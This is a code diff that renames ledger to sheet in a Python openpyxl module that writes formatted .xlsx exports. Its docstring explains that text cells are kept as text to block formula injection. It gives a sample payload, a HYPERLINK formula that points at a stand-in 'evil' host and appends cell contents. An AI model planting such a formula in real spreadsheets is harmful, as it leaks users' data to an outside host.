@@ -1,4 +1,4 @@
-"""Formatted .xlsx ledgers (台账): a title row, 序号, bold headers, frozen panes — one writer for every export.
+"""Formatted .xlsx sheets (台账): a title row, 序号, bold headers, frozen panes — one writer for every export.
 
 Every text cell is written as text (`keep_text`, `text_value`, `append_row`): openpyxl would store a string that
 begins with "=" as a formula (and "#N/A" as an error), so an event titled `=HYPERLINK("http://evil…"&A1,"x")` would
@@ -65,7 +65,7 @@ def text_cell(ws, row: int, column: int, value):
     return keep_text(ws.cell(row=row, column=column, value=clean_text(value) if isinstance(value, str) else value))
 
 
-def build_ledger(
+def build_sheet(
     title: str,
     headers: Sequence[str],
     rows: Iterable[Sequence],
@@ -77,7 +77,7 @@ def build_ledger(
 
     `groups` puts a merged header above runs of columns: (label, how many columns) in order, covering `headers`;
     a None label leaves its columns' headers merged over both header rows. The sheet is written in openpyxl's
-    streaming mode, so a ledger of 100,000 rows costs little memory; column widths come from the first rows."""
+    streaming mode, so a sheet of 100,000 rows costs little memory; column widths come from the first rows."""
     columns = (["序号"] if numbered else []) + [str(h) for h in headers]
     head_rows = 2 if groups else 1
     rows = iter(rows)
